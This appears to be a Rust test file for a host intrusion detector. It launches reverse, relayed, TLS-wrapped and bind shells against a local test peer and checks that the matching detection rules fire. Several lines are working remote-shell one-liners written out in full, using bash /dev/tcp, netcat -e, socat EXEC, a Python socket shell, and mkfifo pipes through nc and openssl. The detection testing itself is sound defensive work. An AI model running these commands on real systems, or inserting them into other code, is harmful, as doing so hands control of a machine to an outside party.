//! Shells that somebody else holds: each is spoken to from another machine, and answers.

use detector_tests::needs_root;
use detector_tests::server::Server;
use detector_tests::wait::{LIMIT, wait_for};

use super::{Alerts, Run, Stage};

/// Sees to it that the shell obeys, then has it end.
fn is_held(stage: &Stage, hand: Server, script: &str) -> Alerts {
    is_held_until(stage, hand, script, |_| ())
}

/// The same, and does something while the shell is held.
fn is_held_until(stage: &Stage, mut hand: Server, script: &str, meanwhile: impl FnOnce(&Run)) -> Alerts {
    let run = stage.start(script);
    let obeyed = wait_for("the shell's answer", LIMIT, || {
        // Said again: what is sent before a connection stands is lost on some listeners.
        hand.say("echo answer $((6 * 7))")?;
        Ok(hand.said().contains("answer 42").then_some(()))
    });
    obeyed.unwrap_or_else(|error| panic!("{script}: {error:#}: {}\n{}", hand.said(), run.log()));
    hand.say("no-such-program 2>&1").unwrap();
    hand.until_says("not found").unwrap_or_else(|error| panic!("{script}: {error:#}"));
    meanwhile(&run);
    hand.say("exit 0").unwrap();
    // Some wait for the other side to hang up.
    drop(hand);
    run.end()
}

/// A shell that calls home.
fn calls(script: &str) -> Alerts {
    let stage = Stage::new();
    let hand = stage.peer_at(4444, "socat", &["-", "TCP-LISTEN:4444,reuseaddr"]);
    is_held(&stage, hand, script)
}

#[test]
fn a_shell_that_a_socket_feeds_is_told() {
    needs_root!();
    let scripts = [
        "bash -c \"bash -i >& /dev/tcp/$PEER/4444 0>&1\" || true",
        "bash -c \"exec 5<> /dev/tcp/$PEER/4444; sh <&5 >&5 2>&5\" || true",
        "nc.traditional -e /bin/sh $PEER 4444 || true",
        "socat TCP:$PEER:4444 EXEC:/bin/sh,nofork,stderr || true",
        "/usr/bin/python3 -c 'import os, socket, subprocess
s = socket.create_connection((os.environ[\"PEER\"], 4444))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
subprocess.call([\"/bin/sh\", \"-i\"])'",
    ];
    for script in scripts {
        let alerts = calls(script);
        let alert = alerts.of("network/reverse_shell.yml", "high");
        let shell = super::program_of(alert);
        assert!(["bash", "sh", "dash"].contains(&shell), "{script}: {shell}");
    }
}

/// Between shell and socket stands somebody who copies.
#[test]
fn a_shell_behind_a_relay_is_told() {
    needs_root!();
    let scripts = [
        "socat TCP:$PEER:4444 EXEC:/bin/sh,pipes,stderr || true",
        "ncat --sh-exec 'bash -i 2>&1' $PEER 4444 || true",
        "mkfifo f; cat f | sh -i 2>&1 | nc.traditional $PEER 4444 > f || true",
    ];
    for script in scripts {
        calls(script).of_any(&[
            "network/reverse_shell.yml",
            "network/shell_in_clear_text.yml",
            "network/relayed_shell.yml",
        ]);
    }
}

#[test]
fn a_shell_in_clear_text_is_told_by_what_it_says() {
    needs_root!();
    calls("bash -c \"bash -i >& /dev/tcp/$PEER/4444 0>&1\" || true")
        .of("network/shell_in_clear_text.yml", "high");
}

/// Nothing of this is on the wire in the clear, and the shell has pipes.
#[test]
fn a_shell_behind_tls_is_told() {
    needs_root!();
    let stage = Stage::new();
    stage.certificate();
    let words = ["s_server", "-quiet", "-accept", "4444", "-cert", "cert.pem", "-key", "key.pem"];
    let hand = stage.peer_at(4444, "openssl", &words);
    let script = "mkfifo f; /bin/sh -i < f 2>&1 | openssl s_client -quiet -connect $PEER:4444 > f 2> /dev/null || true";
    // A pipeline counts once it has stood for two seconds.
    let alerts = is_held_until(&stage, hand, script, |run| {
        run.alert("network/relayed_shell.yml");
    });
    alerts.of("network/relayed_shell.yml", "high");
}

#[test]
fn a_shell_that_waits_for_calls_is_told() {
    needs_root!();
    let scripts = [
        "nc.traditional -l -p 5555 -e /bin/sh || true",
        "ncat -l 5555 --sh-exec 'bash -i 2>&1' || true",
        "socat TCP-LISTEN:5555,reuseaddr EXEC:/bin/sh,nofork,stderr || true",
    ];
    for script in scripts {
        let stage = Stage::new();
        // It tries again until somebody listens.
        let hand = stage.peer("socat", &["-", "TCP:10.77.0.1:5555,retry=400,interval=0.02"]);
        let alerts = is_held(&stage, hand, script);
        alerts.of_any(&["network/bind_shell.yml", "network/shell_in_clear_text.yml"]);
        if !script.starts_with("ncat") {
            alerts.of_any(&["network/bind_shell.yml"]);
        }
    }
}
